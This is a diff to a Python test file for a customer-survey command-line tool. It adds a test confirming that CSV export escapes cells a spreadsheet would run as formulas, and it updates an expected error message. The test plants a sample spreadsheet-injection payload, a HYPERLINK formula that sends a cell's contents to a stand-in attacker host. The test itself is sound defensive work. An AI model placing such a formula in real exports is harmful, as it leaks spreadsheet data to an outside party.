@@ -72,6 +72,19 @@ def test_list_exports_csv_for_a_spreadsheet(env, answered) -> None:
     assert table[0]["rating"] == "1" and table[0]["of"] == "5"
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(env, answered, store) -> None:
+    with store.transaction() as tx:
+        survey = tx.exec(select(Survey).where(Survey.comment == "Quick and friendly")).one()
+        survey.comment = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+        conversation = tx.get(Conversation, survey.conversation_id)
+        conversation.subject, conversation.tags = "+1 refund", ["@SUM(A1)"]
+    (row,) = [r for r in csv.DictReader(io.StringIO(gateway(env, "list", "--csv"))) if r["rating"] == "5"]
+    assert row["comment"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    assert (row["subject"], row["tags"], row["rated_via"]) == ("'+1 refund", "'@SUM(A1)", "web")
+    keys = [r["key"] for r in csv.DictReader(io.StringIO(gateway(env, "stats", "--csv"))) if r["group"] == "tag"]
+    assert "'@SUM(A1)" in keys and "@SUM(A1)" not in keys
+
+
 def test_stats_give_response_rate_csat_and_groups_but_agents_only_when_asked(env, answered) -> None:
     text = gateway(env, "stats")
     assert "surveys sent: 3 · answered: 2 (67%) · CSAT: 50% (1 of 2 satisfied)" in text
@@ -98,8 +111,9 @@ def test_stats_with_no_surveys_say_so_without_dividing_by_zero(env, store) -> No
 def test_a_bad_since_is_one_line_saying_what_works(env, store) -> None:
     result = runner.invoke(app, ["surveys", "list", "--since", "last tuesday"], env=env)
     assert result.exit_code == 2
-    assert result.output.strip().splitlines() == [
-        "error: --since 'last tuesday': give a duration like 30d or 12w, a date like 2026-01-01, or all"]
+    assert result.output.strip().splitlines() == [  # The words of every --since.
+        "error: --since 'last tuesday' is neither a span like 2d or 12h nor a time like 2026-03-01 or "
+        "\"2026-03-01 09:00\""]
 
 
 def test_an_admin_can_opt_a_customer_out_and_back_in(env, answered, store) -> None:
